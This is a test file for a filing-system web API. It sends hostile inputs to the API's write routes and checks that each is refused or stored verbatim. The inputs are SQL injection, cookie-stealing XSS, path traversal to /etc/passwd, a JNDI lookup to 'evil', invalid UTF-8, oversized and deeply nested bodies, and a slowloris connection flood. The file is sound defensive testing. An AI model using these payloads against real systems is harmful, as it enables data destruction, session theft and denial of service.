// hostile.test.mjs — attack strings against the write routes (systems, the filing document, organisations,
// users, rectification answers, action comments): SQL injection, HTML/script, path traversal, NUL bytes,
// overlong and invalid UTF-8, a 10 MB string, deeply nested JSON. Each is answered with a clear 4xx or
// stored verbatim and returned byte-identical as JSON. Then slow clients hold ~50 connections while
// normal requests still succeed; afterwards the server answers /healthz and stops cleanly.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import net from 'node:net';
import { Server, TIME_SCALE } from './lib.mjs';
import { rawRequest, head, parseResponse } from './helpers-io.mjs';
import { API, DEMO, RECTIFICATION_ITEMS, act, completeDraft, createSystem, driveTo, getFiling, loginAll, uscc } from './story.mjs';

const ATTACKS = [
  "'; DROP TABLE filings; --",
  "\" OR 1=1 --",
  "1' OR '1'='1' /*",
  "x'); DELETE FROM users WHERE ('a'='a",
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(document.cookie)">',
  '"><svg/onload=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '${jndi:ldap://evil/x} {{7*7}} %s%n%x',
  '\u202e\u200b\ufeff 零宽 😀 \\u0000 \\\\ "quoted"',
];

let s, filer, admin;

// Send the head, then the body in 64 KiB pieces until the server answers; returns the parsed answer.
function sendUntilAnswered(headText, body) {
  return new Promise((resolve) => {
    const sock = net.connect(s.port, '127.0.0.1');
    let data = Buffer.alloc(0);
    let off = 0;
    sock.on('error', () => {});
    sock.on('data', (d) => { data = Buffer.concat([data, d]); });
    sock.on('close', () => resolve(parseResponse(data)));
    sock.setTimeout(15000, () => sock.destroy());
    const pump = () => {
      if (sock.destroyed || data.length > 0) return;
      if (off >= body.length) return;
      const piece = body.subarray(off, off + 65536);
      off += piece.length;
      sock.write(piece, () => setTimeout(pump, 1));
    };
    sock.on('connect', () => sock.write(headText, () => setTimeout(pump, 20)));
  });
}
before(async () => {
  s = await Server.start();
  await loginAll(s, ['filer', 'admin', 'checker', 'provider', 'reviewer']);
  filer = (m, p, o = {}) => s.req(m, API + p, { ...o, token: s.tokens.filer });
  admin = (m, p, o = {}) => s.req(m, API + p, { ...o, token: s.tokens.admin });
});
after(async () => {
  const h = await s.req('GET', '/healthz');
  assert.equal(h.status, 200, 'the server still answers /healthz after everything');
  await s.stop(); // fails on a non-zero exit (sanitizer report, crash)
});

// A reply that is a clear 4xx problem, or a success whose JSON carries `value` verbatim at `pick`.
const tally = {}; // route → {stored: n, refused: [statuses]}
function assertRefusedOrVerbatim(r, value, pick, what) {
  const t = (tally[what.split(' "')[0]] ??= { stored: 0, refused: [] });
  if (r.status >= 400 && r.status < 500) {
    t.refused.push(r.status);
    assert.match(r.headers.get('content-type') || '', /^application\/problem\+json/, `${what}: ${r.status} is a problem document`);
    return false;
  }
  assert.ok(r.status >= 200 && r.status < 300, `${what}: ${r.status} ${r.text.slice(0, 300)}`);
  assert.match(r.headers.get('content-type') || '', /^application\/json/, `${what}: answered as JSON`);
  assert.equal(pick(JSON.parse(r.text)), value, `${what}: stored verbatim`);
  t.stored++;
  return true;
}

test('POST /systems: attack strings as the name are stored verbatim and returned as JSON', async () => {
  for (const a of ATTACKS) {
    const r = await filer('POST', '/systems', { body: { name: a } });
    if (assertRefusedOrVerbatim(r, a, (b) => b.name, `POST /systems ${JSON.stringify(a)}`)) {
      const g = await filer('GET', `/systems/${r.body.id}`);
      assert.equal(g.status, 200);
      assert.equal(g.body.name, a, 'read back byte-identical');
      // JSON-escaped on the wire: the quote never appears bare inside the string
      if (a.includes('"')) assert.ok(g.text.includes(JSON.stringify(a).slice(1, -1)), 'escaped in the JSON text');
    }
  }
});

test('PUT and PATCH /filings/{id}/document: attack strings in text fields round-trip', async () => {
  const sys = await createSystem(s, 'filer', '攻击字符串测试');
  const id = await completeDraft(s, sys);
  let etag = (await getFiling(s, 'filer', id)).etag;
  for (const a of ATTACKS) {
    // merge patch on two text fields
    let r = await filer('PATCH', `/filings/${id}/document`, {
      body: { system: { description: a, architecture: `架构 ${a}` } }, contentType: 'application/merge-patch+json', headers: { 'If-Match': etag },
    });
    if (assertRefusedOrVerbatim(r, a, (b) => b.document.system.description, `PATCH ${JSON.stringify(a)}`)) {
      assert.equal(r.body.document.system.architecture, `架构 ${a}`);
      etag = r.body.etag;
    }
    // the whole document with the string as the system name
    const doc = (await getFiling(s, 'filer', id)).document;
    doc.system.name = a;
    r = await filer('PUT', `/filings/${id}/document`, { body: doc, headers: { 'If-Match': etag } });
    if (assertRefusedOrVerbatim(r, a, (b) => b.document.system.name, `PUT ${JSON.stringify(a)}`)) etag = r.body.etag;
    const back = await getFiling(s, 'filer', id);
    assert.equal(back.document.system.name, a);
    assert.equal(back.document.system.description, a);
  }
});

test('POST /orgs (admin) and POST /users: attack strings as names and logins', async () => {
  let n = 0;
  for (const a of ATTACKS) {
    const code = uscc(`91110000MA0${String(1000000 + n++).slice(1)}`);
    const r = await admin('POST', '/orgs', { body: { kind: 'enterprise', name: a, uscc: code, region: '110000' } });
    if (assertRefusedOrVerbatim(r, a, (b) => b.name, `POST /orgs ${JSON.stringify(a)}`)) {
      const g = await admin('GET', `/orgs/${r.body.id}`);
      assert.equal(g.body.name, a);
    }
    const u = await admin('POST', '/users', { body: { org_id: DEMO.enterprise, login: a, roles: ['filer'], password: 'Hostile-input-pw-123!' } });
    assertRefusedOrVerbatim(u, a, (b) => b.login, `POST /users login ${JSON.stringify(a)}`);
  }
});

test('rectification answers and action comments: attack strings round-trip', async () => {
  const all = ATTACKS.join(' | ');
  const sys = await createSystem(s, 'filer', '整改攻击测试');
  const id = await completeDraft(s, sys);
  await driveTo(s, id, 'under_review');
  const items = ATTACKS.map(() => RECTIFICATION_ITEMS[0]);
  const rr = await act(s, 'reviewer', id, 'request_rectification', { items, comment: all });
  assert.equal(rr.status, 200, rr.text);
  const ev = await filer('GET', `/filings/${id}/events`);
  assert.equal(ev.status, 200);
  assert.ok(JSON.stringify(ev.body).includes(JSON.stringify(all).slice(1, -1)), 'the comment is stored verbatim in the events');
  const notice = (await filer('GET', `/filings/${id}/rectifications`)).body.items[0];
  assert.equal(notice.items.length, ATTACKS.length);
  for (const [i, a] of ATTACKS.entries()) {
    const r = await filer('POST', `/filings/${id}/rectifications/${notice.id}/items/${notice.items[i].id}/answer`, { body: { answer: a } });
    assertRefusedOrVerbatim(r, a, (b) => b.items[0].items[i].answer, `answer ${JSON.stringify(a)}`);
  }
});

test('NUL bytes, invalid and overlong UTF-8 → 4xx', async () => {
  for (const body of ['{"name":"a\\u0000b"}', '{"name\\u0000":"x"}']) {
    const r = await filer('POST', '/systems', { raw: body });
    assert.ok(r.status >= 400 && r.status < 500, `NUL ${body}: ${r.status} ${r.text}`);
  }
  const r = await filer('PATCH', '/filings/1/document', { raw: '{"system":{"description":"a\\u0000"}}', contentType: 'application/merge-patch+json', headers: { 'If-Match': '"x"' } });
  assert.ok(r.status >= 400 && r.status < 500, `NUL in a patch: ${r.status}`);
  const bad = [
    Buffer.from([0xc0, 0xaf]), // overlong '/'
    Buffer.from([0xe0, 0x80, 0xaf]), // overlong '/' in three bytes
    Buffer.from([0xf0, 0x80, 0x80, 0xaf]),
    Buffer.from([0xed, 0xa0, 0x80]), // a surrogate
    Buffer.from([0xff, 0xfe]),
    Buffer.from([0xe4, 0xb8]), // truncated
  ];
  for (const b of bad) {
    const body = Buffer.concat([Buffer.from('{"name":"x'), b, Buffer.from('y"}')]);
    const res = await rawRequest(s.port, [head('POST', '/api/v1/systems', {
      Authorization: `Bearer ${s.tokens.filer}`, 'Content-Type': 'application/json', 'Content-Length': body.length, Connection: 'close',
    }), body]);
    assert.ok(res.status >= 400 && res.status < 500, `invalid UTF-8 ${b.toString('hex')}: ${res.status} ${res.body}`);
    assert.equal(res.headers['content-type']?.split(';')[0], 'application/problem+json');
    assert.doesNotThrow(() => JSON.parse(res.body.toString('utf8')), 'the problem document is valid JSON');
  }
});

test('a 10 MB string → 413; deeply nested JSON → 400', async () => {
  // a client sending a 10 MB body: the server answers 413 after the headers and closes; the client
  // stops sending once it sees the answer (sending on would make the kernel reset the connection)
  const big = Buffer.from(JSON.stringify({ name: 'x'.repeat(10 * 1024 * 1024) }));
  for (const [method, path, extra] of [['POST', '/api/v1/systems', {}], ['PUT', '/api/v1/filings/1/document', { 'If-Match': '"x"' }]]) {
    const res = await sendUntilAnswered(head(method, path, {
      Authorization: `Bearer ${s.tokens.filer}`, 'Content-Type': 'application/json', 'Content-Length': big.length, ...extra,
    }), big);
    assert.equal(res.status, 413, `10 MB ${method} ${path}: ${res.status} ${res.raw.toString('latin1').slice(0, 200)}`);
    assert.equal(res.json?.code, 'too_large');
  }
  for (const depth of [200, 10000, 100000]) {
    for (const raw of ['['.repeat(depth) + ']'.repeat(depth), `{"name":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`]) {
      const r = await filer('POST', '/systems', { raw });
      assert.equal(r.status, 400, `nesting ${depth}: ${r.status} ${r.text.slice(0, 200)}`);
    }
  }
  const r = await filer('PATCH', '/filings/1/document', {
    raw: `{"system":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}}`, contentType: 'application/merge-patch+json', headers: { 'If-Match': '"x"' },
  });
  assert.ok(r.status >= 400 && r.status < 500, `nested patch: ${r.status}`);
});

test('slow clients holding ~50 connections do not stop others being served', async () => {
  const socks = [];
  const timers = [];
  for (let i = 0; i < 50; i++) {
    const sock = net.connect(s.port, '127.0.0.1');
    sock.on('error', () => {});
    socks.push(sock);
    if (i % 2 === 0) {
      // slowloris: a request head one byte at a time
      const text = `POST /api/v1/systems HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${s.tokens.filer}\r\nX-Slow: ${'a'.repeat(200)}`;
      let k = 0;
      timers.push(setInterval(() => { if (!sock.destroyed && k < text.length) sock.write(text[k++]); }, 100));
    }
    // odd ones: connected and idle
  }
  await new Promise((r) => setTimeout(r, 500));
  try {
    for (let i = 0; i < 10; i++) {
      const t = Date.now();
      const [h, list, created] = await Promise.all([
        s.req('GET', '/healthz'), filer('GET', '/systems'), filer('POST', '/systems', { body: { name: `慢客户端期间 ${i}` } }),
      ]);
      assert.equal(h.status, 200);
      assert.equal(list.status, 200);
      assert.equal(created.status, 201, created.text);
      assert.ok(Date.now() - t < 3000 * TIME_SCALE, `requests took ${Date.now() - t} ms while slow clients held connections`);
    }
  } finally {
    timers.forEach(clearInterval);
    socks.forEach((x) => x.destroy());
  }
});

test('the attack strings were really stored, not just refused, where the field is free text', () => {
  console.log(`hostile: ${JSON.stringify(tally)}`);
  const stored = (prefix) => Object.entries(tally).filter(([k]) => k.startsWith(prefix)).reduce((n, [, v]) => n + v.stored, 0);
  // names refuse bidi and zero-width characters (issue 12, names.test.mjs): the last attack is 422 there
  const invisible = ATTACKS.filter((a) => /[\u202a-\u202e\u200b-\u200f\ufeff]/.test(a)).length;
  assert.equal(invisible, 1);
  assert.equal(stored('POST /systems'), ATTACKS.length - invisible, 'every other system name stored verbatim');
  assert.deepEqual(tally['POST /systems'].refused, [422]);
  assert.deepEqual(tally['POST /orgs'].refused, [422]);
  assert.equal(stored('PATCH'), ATTACKS.length, 'every description stored verbatim');
  assert.equal(stored('PUT'), ATTACKS.length, 'every system name in the document stored verbatim');
  assert.equal(stored('POST /orgs'), ATTACKS.length - invisible, 'every other organisation name stored verbatim');
  assert.equal(stored('answer'), ATTACKS.length, 'every rectification answer stored verbatim');
});
